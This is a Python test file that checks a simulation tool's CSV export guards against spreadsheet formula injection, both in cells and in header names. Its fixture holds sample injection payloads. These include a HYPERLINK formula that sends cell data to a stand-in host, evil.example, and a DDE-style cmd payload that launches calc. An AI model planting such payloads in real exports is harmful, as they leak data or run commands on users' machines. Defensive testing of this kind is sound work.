"""CSV export neutralises spreadsheet formulas in text cells (OWASP "CSV Injection"): a
world's `=HYPERLINK(...)` was written as it is, and a spreadsheet would run it. Numbers
stay numbers; JSON Lines keeps every value exactly; `--csv-raw` turns the guard off."""

from __future__ import annotations

import csv
from pathlib import Path

import orjson
import pytest
from click.testing import CliRunner, Result
from conftest import copy_demo

from sim.analysis.export import FORMULA_STARTS
from sim.cli import main

HOSTILE = {
    "link": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "sum": "@SUM(A1:A9)",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "plain": "a quiet day = fine",
    "debt": -3,
    "temperature": -2.5,
}


def invoke(*args: str) -> Result:
    return CliRunner().invoke(main, list(args))


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Path:
    world = copy_demo(tmp_path_factory.mktemp("formulas") / "w")
    path = world / "characters" / "ada.json"
    data = orjson.loads(path.read_bytes())
    data["state"].update(HOSTILE)
    path.write_bytes(orjson.dumps(data))
    done = invoke("tick", "--world", str(world), "--ticks", "1")
    assert done.exit_code == 0, done.output
    return world


def ada_row(out: Path) -> dict[str, str]:
    with (out / "characters.csv").open(newline="", encoding="utf-8") as handle:
        return next(row for row in csv.DictReader(handle) if row["character"] == "ada")


def test_csv_text_cells_that_a_spreadsheet_would_run_get_a_quote(
    world: Path, tmp_path: Path
) -> None:
    done = invoke("export", "--world", str(world), "--out", str(tmp_path / "t"))
    assert done.exit_code == 0, done.output
    row = ada_row(tmp_path / "t")
    for field in ("link", "sum", "plus", "minus", "tab", "cr"):
        assert row[f"state.{field}"] == "'" + str(HOSTILE[field]), field
    assert row["state.plain"] == HOSTILE["plain"]
    assert row["state.debt"] == "-3" and row["state.temperature"] == "-2.5"  # numbers


def test_csv_raw_writes_text_exactly(world: Path, tmp_path: Path) -> None:
    done = invoke("export", "--world", str(world), "--out", str(tmp_path / "t"), "--csv-raw")
    assert done.exit_code == 0, done.output
    row = ada_row(tmp_path / "t")
    for field in ("link", "sum", "plus", "minus", "tab", "cr"):
        assert row[f"state.{field}"] == HOSTILE[field], field


def test_json_lines_keep_every_value(world: Path, tmp_path: Path) -> None:
    out = tmp_path / "t"
    done = invoke("export", "--world", str(world), "--out", str(out), "--format", "jsonl")
    assert done.exit_code == 0, done.output
    rows = [orjson.loads(line) for line in (out / "characters.jsonl").read_bytes().splitlines()]
    ada = next(row for row in rows if row["character"] == "ada")
    assert {field: ada[f"state.{field}"] for field in HOSTILE} == HOSTILE


def test_csv_raw_with_another_format_is_refused(world: Path, tmp_path: Path) -> None:
    out = tmp_path / "t"
    done = invoke(
        "export", "--world", str(world), "--out", str(out), "--format", "jsonl", "--csv-raw"
    )
    assert done.exit_code == 2
    assert "--csv-raw" in done.output and "csv only" in done.output
    assert not out.exists()


def test_a_header_cell_named_by_the_world_is_neutralised(tmp_path: Path) -> None:
    """A relationship's attribute becomes an ``edges.csv`` column: its name is the world's
    text, so the header row gets the guard the rows get."""
    world = copy_demo(tmp_path / "w")
    path = world / "characters" / "ada.json"
    data = orjson.loads(path.read_bytes())
    data["relationships"] = {
        "bram": {"kind": "friend", "trust": 0.5, HOSTILE["link"]: "x", "since": 3}
    }
    path.write_bytes(orjson.dumps(data))
    done = invoke("tick", "--world", str(world), "--ticks", "1")
    assert done.exit_code == 0, done.output
    out = tmp_path / "t"
    done = invoke("export", "--world", str(world), "--out", str(out))
    assert done.exit_code == 0, done.output
    with (out / "edges.csv").open(newline="", encoding="utf-8") as handle:
        header = next(csv.reader(handle))
    assert "'" + HOSTILE["link"] in header and "since" in header
    assert not [cell for cell in header if cell.startswith(FORMULA_STARTS)], header
    raw = tmp_path / "raw"
    done = invoke("export", "--world", str(world), "--out", str(raw), "--csv-raw")
    assert done.exit_code == 0, done.output
    with (raw / "edges.csv").open(newline="", encoding="utf-8") as handle:
        assert HOSTILE["link"] in next(csv.reader(handle))
